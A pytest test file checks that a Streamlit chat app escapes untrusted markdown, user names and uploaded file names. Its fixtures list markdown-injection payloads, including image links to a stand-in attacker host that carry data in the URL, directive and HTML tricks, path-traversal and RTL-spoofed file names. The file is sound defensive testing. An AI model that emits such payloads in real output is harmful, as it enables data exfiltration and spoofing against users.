"""Untrusted text (answers, passages, questions, names) is shown formatted but can never load, link or restyle."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from streamlit.string_util import clean_text
from streamlit.testing.v1 import AppTest

from lib.documents.names import FileNameError, safe_file_name
from lib.ui.untrusted import clean_name, untrusted_label, untrusted_markdown

ROOT = Path(__file__).resolve().parent.parent
LIVE = frozenset({"image", "link_open", "html_inline", "html_block"})
# Outside code, these characters may only appear escaped: each starts a link, image, HTML, autolink, code span,
# directive (`:red[…]`), e-mail autolink, math or entity somewhere in Streamlit's markdown.
STARTERS = re.compile(r"[\[\]<`:@$&\\]|www\.", re.IGNORECASE)
# Streamlit finds these in the text after parsing, however they were escaped: remark-gfm links URLs and e-mail
# addresses, Streamlit draws `:material_x:` and `:streamlit:` as icons.
READS_AS_LIVE = re.compile(r"https?://|www\.|[-.\w+]@[-\w]|:material[_/]|:streamlit:", re.IGNORECASE)

HOSTILE = [
    "![x](https://attacker.invalid/?d=secret)",
    "![x][r]\n\n[r]: https://attacker.invalid/ref.png",
    '<img src="https://attacker.invalid/i.png">',
    "<https://attacker.invalid/auto>",
    "see https://attacker.invalid/bare and www.attacker.invalid and mail bob@attacker.invalid",
    "[click](https://attacker.invalid/l) [ref]\n\n[ref]: https://attacker.invalid/r",
    ":red[alarm] :material/warning: :material_warning: :streamlit: :help[tip] :red-badge[x]",
    "\\![x](https://attacker.invalid/escaped-bang)",
    "\\\\![x](https://attacker.invalid/double-backslash)",
    "&#91;x&#93;(https://attacker.invalid/entity) &#58;material_home&#58;",
    "- item\n  ```\n  code\n![x](https://attacker.invalid/after-fence)",
    "`unclosed ![x](https://attacker.invalid/after-tick)",
    "``a`b ![x](https://attacker.invalid/unmatched-runs)",
    "| a | b |\n|---|---|\n| `x | ![i](https://attacker.invalid/cell.png) y` | z |",
    '```mermaid\ngraph TD; A-->B; click A href "https://attacker.invalid/m"\n```',
    "$\\href{https://attacker.invalid/k}{x}$ and $$\\includegraphics{https://attacker.invalid/k.png}$$",
    "<!-- ![x](https://attacker.invalid/comment) -->",
    "<pre>\n\n    ![x](https://attacker.invalid/pre)\n</pre>",
]
# Code by CommonMark, but only just: a GFM table may still be open (micromark's table might take the fence as a
# row), or the nesting is deeper than markdown-it follows. Such code is escaped as text.
TRAPS = [
    "| a |\n|---|\nrow\n```\n![x](https://attacker.invalid/after-table)\n```",
    "| a | `b` ![x](https://attacker.invalid/cell)` |\n|---|---|",
    ">" * 30 + " ```\n" + ">" * 30 + " ![x](https://attacker.invalid/deep)",
    "    ![x](https://attacker.invalid/indented)",  # code to CommonMark, but Streamlit strips a body's indent
    "\t![x](https://attacker.invalid/tab)\n\t```",
]


def parser() -> MarkdownIt:
    md = MarkdownIt("commonmark").enable("table")
    md.core.ruler.disable("text_join")  # keep escapes as their own tokens, so plain text can be told from them
    return md


def live_tokens(markdown: str) -> list[str]:
    """Link, image and HTML tokens, and plain (unescaped) text that would start a GFM/Streamlit construct."""
    found = []
    stack = list(parser().parse(markdown))
    while stack:
        t = stack.pop()
        if t.type in LIVE:
            found.append(t.type)
        if t.type == "inline":
            decoded = "".join(c.content for c in t.children or [] if c.type in ("text", "text_special"))
            found += [f"reads as {m.group()!r}" for m in READS_AS_LIVE.finditer(decoded)]
            plain = "".join(c.content if c.type == "text" else "\x00" for c in t.children or [])
            found += [f"plain {m.group()!r}" for m in STARTERS.finditer(plain)]
        stack.extend(t.children or [])
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_shows_as_text_with_nothing_live(text):
    shown = untrusted_markdown(text)
    assert live_tokens(shown) == []
    assert live_tokens(text) != [] or "mermaid" in text or "$" in text  # each case is live when shown raw


@pytest.mark.parametrize("text", TRAPS)
def test_code_a_table_or_deep_nesting_could_reinterpret_is_escaped_too(text):
    shown = untrusted_markdown(text)
    assert "![x]" not in shown and "!\\[x\\]" in shown
    assert live_tokens(shown) == []


@settings(max_examples=400, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "![",
                "[",
                "]",
                "(",
                ")",
                "<",
                ">",
                "`",
                "``",
                "```",
                "~~~",
                "\n",
                "\n\n",
                "    ",
                "  ",
                "\t",
                "- ",
                "* ",
                "1. ",
                "> ",
                "|",
                "---",
                "\\",
                ":",
                "www.",
                "https://",
                "a@b.c",
                "$",
                "&#58;",
                "&",
                ":material/x:",
                ":red[",
                "x",
                " ",
                "**",
                "_",
                "<img src=x>",
                "]: /u",
                "mermaid",
                "#",
                "\u202e",
            ]
        )
        | st.text(max_size=3),
        max_size=40,
    ).map("".join)
)
def test_no_generated_text_ever_renders_a_link_image_html_or_directive(text):
    shown = untrusted_markdown(text)
    assert live_tokens(shown) == []
    assert clean_text(shown) == shown  # what st.markdown does to a body (dedent, strip) changes nothing


def test_an_ordinary_answer_keeps_its_formatting_and_code_as_written():
    answer = (
        "# Setup\n\nRun **two** steps:\n\n1. Install with `pip install x[dev]`.\n2. Configure:\n"
        '   ```toml\n   url = "https://internal.example/api"  # [not a link]\n   ```\n\n'
        "| Step | Time |\n|---|---|\n| *one* | 2 s |\n\n> Note: it works.\n\n    indented <code>\n"
    )
    shown = untrusted_markdown(answer)
    tokens = [t.type for t in MarkdownIt("commonmark").enable("table").parse(shown)]
    for kind in ("heading_open", "ordered_list_open", "fence", "table_open", "blockquote_open", "code_block"):
        assert kind in tokens
    assert '   url = "https://internal.example/api"  # [not a link]' in shown.splitlines()  # code untouched
    assert "`pip install x[dev]`" in shown
    assert "Run **two** steps" in shown
    assert "Note\\: it works." in shown  # outside code the colon is escaped: invisible once rendered


def test_plain_prose_is_left_exactly_as_written():
    prose = "The library is on the third floor. It opens at nine (weekdays) - bring your card!"
    assert untrusted_markdown(prose) == prose


def test_a_mermaid_block_is_shown_as_code_not_drawn():
    shown = untrusted_markdown("```Mermaid\ngraph TD; A-->B\n```")
    assert shown == "```text\ngraph TD; A-->B\n```"


def test_deep_nesting_and_very_long_text_fall_back_to_escaping_everything_quickly():
    deep = untrusted_markdown(">" * 40 + " `a` ![x](https://attacker.invalid/)")
    assert "\\`a\\`" in deep and live_tokens(deep) == []
    huge = "".join("`" * i + " " for i in range(1, 1400))  # ~1 MB of backtick runs of every length
    started = time.process_time()
    assert live_tokens(untrusted_markdown(huge[:150_000])) == []
    untrusted_markdown(huge)
    assert time.process_time() - started < 10


def test_a_label_is_one_line_of_escaped_text_without_control_characters():
    label = untrusted_label("**admin**\n![x](https://attacker.invalid/) \u202e:material/home:\u200b #1")
    assert "\n" not in label and "\u202e" not in label and "\u200b" not in label
    tokens = parser().parse(label)
    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"]
    assert {c.type for c in tokens[1].children} <= {"text", "text_special"}
    assert live_tokens(label) == []
    assert untrusted_label("x" * 500, max_chars=20) == "x" * 19 + "…"


def test_clean_name_keeps_visible_characters_on_one_line():
    assert clean_name("  Ada\u202e  Lovelace\n\tadmin\u200b ") == "Ada Lovelace admin"


@pytest.mark.parametrize(
    ("upload", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\eve\\report.pdf", "report.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("zero\u200bwidth\x00.txt", "zerowidth.txt"),
        ("  many   spaces\n and\tlines .md", "many spaces and lines .md"),
        (".hidden", "hidden"),
        ("plain.pdf", "plain.pdf"),
    ],
)
def test_an_uploaded_file_name_loses_folders_and_invisible_characters(upload, kept):
    assert safe_file_name(upload) == kept


def test_a_long_file_name_is_cut_keeping_its_extension():
    name = safe_file_name("report " * 50 + ".docx", max_chars=40)
    assert len(name) == 40 and name.endswith("….docx")


@pytest.mark.parametrize("upload", ["", "   ", "../", "\u202e\u200b", "..", "C:\\"])
def test_a_file_name_with_nothing_visible_is_refused(upload):
    with pytest.raises(FileNameError, match="no visible characters"):
        safe_file_name(upload)


def test_a_streamed_answer_is_shown_escaped_while_it_grows_and_at_the_end():
    def page():
        from lib.ui.untrusted import stream_untrusted

        ticks = iter(range(100))
        pieces = ["Look: ![x](https://attacker", ".invalid/p.png) and `code` ", "done"]
        stream_untrusted(pieces, every_s=0, clock=lambda: next(ticks))

    at = AppTest.from_function(page).run()
    assert not at.exception
    (shown,) = at.markdown
    assert shown.value == untrusted_markdown("Look: ![x](https://attacker.invalid/p.png) and `code` done")
    assert live_tokens(shown.value) == []


def _chat_with_hostile_content(monkeypatch) -> AppTest:
    from lib.chat import conversations as chat_store
    from lib.core.db import make_engine
    from lib.core.settings import load_settings

    monkeypatch.setenv("WORKBENCH_USER", "ada")
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.secrets["WORKBENCH_TEST"] = "1"
    at.run()  # creates the database
    engine = make_engine(load_settings().database_url)
    chat = chat_store.create_session(engine, "ada")
    chat_store.add_message(engine, chat.id, "user", "![q](https://attacker.invalid/question.png) what?")
    source = {
        "number": 1,
        "chunk_id": "c1",
        "document_id": 1,
        "document": "![f](https://attacker.invalid/name.png).pdf",
        "page": 2,
        "chunk_index": 0,
        "text": "passage <img src=https://attacker.invalid/passage.png> www.attacker.invalid",
        "score": 1.0,
    }
    chat_store.add_message(
        engine, chat.id, "assistant", "See [1]. ![a](https://attacker.invalid/answer.png)", sources=[source]
    )
    at.session_state["chat_session_id"] = chat.id
    return at.run()


def test_the_chat_page_shows_a_hostile_stored_conversation_as_text(monkeypatch):
    at = _chat_with_hostile_content(monkeypatch)
    assert not at.exception
    shown = [m.value for m in at.markdown] + [e.label for e in at.expander] + [b.label for b in at.sidebar.button]
    assert any("attacker" in s for s in shown)
    assert sum("attacker" in s for s in shown) >= 5  # question, title, answer, passage, file name
    assert {s: live_tokens(s) for s in shown if live_tokens(s)} == {}


def test_the_sidebar_shows_a_hostile_user_name_as_text(monkeypatch):
    monkeypatch.setenv("WORKBENCH_USER", "![u](https://attacker.invalid/user.png)")
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.secrets["WORKBENCH_TEST"] = "1"
    at.run()
    assert not [m.value for m in at.sidebar.markdown if "attacker" in m.value]  # never markdown
    assert [t.value for t in at.sidebar.text] == ["![u](https://attacker.invalid/user.png)"]  # plain text
